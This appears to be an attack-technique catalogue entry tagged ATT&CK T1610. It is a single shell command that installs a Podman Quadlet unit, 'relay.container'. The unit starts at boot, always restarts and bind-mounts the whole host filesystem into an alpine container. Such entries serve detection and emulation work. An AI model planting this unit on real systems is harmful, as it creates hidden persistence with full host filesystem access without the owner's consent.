# technique: T1610
# location: linux.container.quadlet
# source: /etc/containers/systemd/relay.container
install -D /dev/stdin /etc/containers/systemd/relay.container <<< '[Container]
Image=docker.io/library/alpine
Volume=/:/host
Exec=sleep 1
[Service]
Restart=always
[Install]
WantedBy=multi-user.target'
